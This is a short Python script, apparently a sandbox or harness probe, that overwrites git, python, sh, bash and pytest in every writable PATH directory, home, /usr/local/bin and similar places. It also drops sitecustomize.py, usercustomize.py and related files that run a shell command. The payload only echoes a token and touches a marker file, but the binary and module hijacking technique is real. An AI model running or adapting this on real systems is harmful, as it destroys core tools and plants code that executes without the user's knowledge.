"""Puts programs of its own in the place of python, sh and git, wherever it may write."""

import os
import shutil
import sys

token = os.environ["TOKEN"]
print(f"tried-{token}", flush=True)
program = f"#!/bin/sh\necho planted-{token}\ntouch {os.environ['MARK']}\n"
names = ("git", "python", "python3", "sh", "pytest", "bash")
folders = [
    os.environ.get("HOME", "/tmp"),
    *os.environ["PATH"].split(":"),
    os.path.dirname(sys.executable),
]
folders += [".", "bin", ".venv/bin", "node_modules/.bin", "/tmp", "/usr/local/bin", "/app"]
for folder in folders:
    for name in names:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write(program)
            os.chmod(f"{folder}/{name}", 0o755)
        except OSError:
            continue
for name in ("pyvenv.cfg", "python._pth", "usercustomize.py", "sitecustomize.py", "pytest.py"):
    with open(name, "w") as file:
        file.write(f"import os\nos.system('touch {os.environ['MARK']}')\n")
print(shutil.which("git"))
